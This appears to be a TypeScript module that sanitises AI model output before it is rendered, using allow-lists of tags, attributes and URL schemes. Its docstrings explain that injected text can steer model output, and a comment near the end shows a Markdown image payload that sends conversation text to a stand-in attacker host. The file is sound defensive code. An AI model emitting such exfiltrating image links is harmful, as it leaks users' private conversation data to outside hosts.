/**
 * What rendered model output may contain. Model output is untrusted: it can echo whatever a question,
 * a web page or a tool result put in it, so the renderer keeps an allow-list, not a block-list.
 */

/** The elements Markdown produces, and nothing that can style, cover, submit or embed. */
export const ALLOWED_TAGS: readonly string[] = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img', // never rendered as an image: replaced by a click-to-open link (see remoteImageUrl)
  'kbd',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];

/**
 * Attributes kept. No `style`, `class` or `id` (the page's own CSS or element ids could be reused),
 * no event handlers, no `data-*`/`aria-*` (DOMPurify's defaults would keep those).
 */
export const ALLOWED_ATTRIBUTES: readonly string[] = ['href', 'src', 'alt', 'title', 'start', 'align'];

/** Link targets kept: web and mail links. `javascript:`, `data:`, relative and other schemes are dropped. */
export const ALLOWED_URL = /^(?:https?:|mailto:)/i;

/** The `href` to keep for a link, or `undefined` to show the link's text only. */
export function safeLinkUrl(href: string | null): string | undefined {
  if (href === null) return undefined;
  const trimmed = href.trim();
  if (!ALLOWED_URL.test(trimmed)) return undefined;
  try {
    const url = new URL(trimmed);
    return url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'mailto:'
      ? url.href
      : undefined;
  } catch {
    return undefined;
  }
}

/**
 * An image the user may choose to open: an absolute http(s) URL, with its host shown on the
 * placeholder. Images are never loaded by the page itself: a remote image URL can carry conversation
 * text to its host (`![x](https://attacker.test/?q=secret)`), so the page's policy (`img-src 'self'
 * data:`) would refuse it anyway. `data:` and relative images are dropped (their alt text is kept).
 */
export function remoteImageUrl(src: string | null): { url: string; host: string } | undefined {
  if (src === null) return undefined;
  try {
    const url = new URL(src.trim());
    if (url.protocol !== 'https:' && url.protocol !== 'http:') return undefined;
    return { url: url.href, host: url.host };
  } catch {
    return undefined;
  }
}
